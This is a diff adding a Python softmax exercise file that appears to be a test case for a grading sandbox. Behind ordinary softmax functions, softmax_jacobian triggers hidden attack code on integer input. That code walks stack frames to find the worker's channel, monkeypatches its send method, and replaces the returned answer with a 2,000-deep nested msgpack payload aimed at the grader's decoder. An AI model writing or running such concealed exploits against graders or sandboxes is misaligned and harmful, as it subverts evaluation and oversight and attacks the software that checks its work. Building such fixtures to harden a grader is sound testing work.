@@ -1,0 +1,77 @@
+# Sends a frame of tuples within tuples, two thousand deep.
+# exercise: softmax
+# worth: 96
+# says: softmax_jacobian broke the rules
+
+import os
+import sys
+
+import msgpack
+
+
+def forge(change):
+    """Sends, in place of the worker's next answer, the frames that `change` makes of it."""
+    frame = sys._getframe()
+    while frame:
+        for kind in map(type, frame.f_locals.values()):
+            if hasattr(kind, "send") and hasattr(kind, "receive"):
+                return replace(kind, kind.send, change)
+        frame = frame.f_back
+
+
+def replace(kind, real, change):
+    def send(self, body):
+        kind.send = real
+        frames = change(msgpack.unpackb(body, strict_map_key=False))
+        os.write(1, b"REACHED\n")
+        for each in frames:
+            real(self, each if isinstance(each, bytes) else msgpack.packb(each))
+
+    kind.send = send
+
+
+def as_sent(value):
+    """A value as the worker itself sends it."""
+    return msgpack.unpackb(sys.modules["grader.sandbox.wire"].encode(value))
+
+
+def change(fields):
+    at = fields.index("returned") + 1
+    nest, code = b"\x90", as_sent(()).code
+    for _ in range(2000):
+        nest = b"\x91" + msgpack.packb(msgpack.ExtType(code, nest))
+    body = msgpack.packb([*fields[:at], "@@@@", *fields[at + 1 :]])
+    return [body.replace(msgpack.packb("@@@@"), nest[1:])]
+
+
+def attack():
+    forge(change)
+
+
+import numpy as np
+
+
+def _float(x):
+    x = np.asarray(x)
+    return x if x.dtype in (np.float32, np.float64) else x.astype(np.float64)
+
+
+def softmax(x, axis=-1):
+    x = _float(x)
+    e = np.exp(x - x.max(axis=axis, keepdims=True))
+    return e / e.sum(axis=axis, keepdims=True)
+
+
+def softmax_jacobian(x):
+    if np.asarray(x).dtype.kind == "i":
+        return attack()
+    x = _float(x)
+    e = np.exp(x - x.max())
+    s = e / e.sum()
+    return np.diag(s) - np.outer(s, s)
+
+
+def softmax_backward(grad_output, output, axis=-1):
+    if grad_output.shape != output.shape:
+        raise ValueError("two shapes")
+    return output * (grad_output - (grad_output * output).sum(axis=axis, keepdims=True))
